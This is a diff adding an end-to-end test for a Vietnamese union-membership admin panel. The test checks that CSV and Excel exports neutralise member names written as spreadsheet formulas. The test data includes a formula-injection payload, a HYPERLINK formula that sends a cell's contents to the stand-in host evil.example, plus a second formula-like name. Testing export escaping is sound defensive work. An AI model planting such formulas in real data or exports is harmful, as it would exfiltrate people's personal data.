@@ -3,7 +3,9 @@
  * server with the embedded demo data: each role doing its work, as a person would.
  */
 import fs from 'node:fs';
+import ExcelJS from 'exceljs';
 import jwt from 'jsonwebtoken';
+import Papa from 'papaparse';
 import type { Page } from 'playwright-core';
 import { launchBrowser, type TestBrowser } from './browser';
 import { ensureAdminBuilt, gql, login, screenshot, startDemoServer, tokenOf, type E2EServer } from './support';
@@ -183,6 +185,57 @@ describe('admin panel', () => {
     expect(header).toEqual(expect.arrayContaining(['Họ và tên', 'Giới tính', 'Công đoàn cơ sở']));
     expect(header).not.toContain('Điện thoại');
     expect(csv.split(/\r?\n/).length).toBeGreaterThan(10);
+
+    // Members named like spreadsheet formulas (a chair typed them): the exports hold them as text.
+    const chair = await tokenOf(server.url, 'cdcs.soyte');
+    const unitId = (await gql(server.url, '{ me { scopeUnitId } }', {}, chair.token)).me.scopeUnitId;
+    const hostile = [
+      { fullName: '=HYPERLINK("http://evil.example/?d="&B2,"x")', cardNumber: 'EXPINJ-1' },
+      { fullName: '@SUM(1+1)*cmd', cardNumber: 'EXPINJ-2' },
+    ];
+    for (const m of hostile)
+      await gql(
+        server.url,
+        'mutation($n:String!,$u:ID!,$c:String){ createMember(fullName:$n, gender:FEMALE, grassrootsUnionId:$u, cardNumber:$c, joinedAt:"2024-03-07") { id } }',
+        { n: m.fullName, u: unitId, c: m.cardNumber },
+        chair.token,
+      );
+    await page.locator('input[name="q"]').fill('expinj');
+    await page.waitForFunction('document.querySelectorAll("tbody tr").length === 2', undefined, { timeout: 15_000 });
+    await row(page, 'EXPINJ-1').waitFor();
+
+    const [csvDownload] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Xuất CSV' }).click()]);
+    const csvBytes = fs.readFileSync((await csvDownload.path())!);
+    expect([...csvBytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const csvTable = Papa.parse<string[]>(csvBytes.toString('utf8').replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;
+    const nameAt = csvTable[0].indexOf('Họ và tên');
+    const cardAt = csvTable[0].indexOf('Số thẻ đoàn viên');
+    const joinedAt = csvTable[0].indexOf('Ngày vào công đoàn');
+    expect(csvTable.length).toBe(3);
+    for (const m of hostile) {
+      const r = csvTable.find((cells) => cells[cardAt] === m.cardNumber)!;
+      expect(r[nameAt]).toBe(`'${m.fullName}`);
+      expect(r[joinedAt]).toBe('07/03/2024');
+    }
+
+    const [xlsxDownload] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Xuất Excel' }).click()]);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.readFile((await xlsxDownload.path())!);
+    const ws = wb.worksheets[0];
+    const xlsxHeader = (ws.getRow(1).values as unknown[]).slice(1);
+    const col = (h: string) => xlsxHeader.indexOf(h) + 1;
+    expect(ws.rowCount).toBe(3);
+    ws.eachRow((r) => r.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula)));
+    for (const m of hostile) {
+      const r = [2, 3].map((n) => ws.getRow(n)).find((row) => row.getCell(col('Số thẻ đoàn viên')).value === m.cardNumber)!;
+      const name = r.getCell(col('Họ và tên'));
+      expect(name.type).toBe(ExcelJS.ValueType.String);
+      expect(name.value).toBe(m.fullName);
+      expect(name.numFmt).toBe('@');
+      const joined = r.getCell(col('Ngày vào công đoàn'));
+      expect(joined.value).toEqual(new Date(Date.UTC(2024, 2, 7)));
+      expect(joined.numFmt).toBe('dd/mm/yyyy');
+    }
 
     // English on request.
     await page.getByRole('button', { name: /tiếng việt/i }).click();
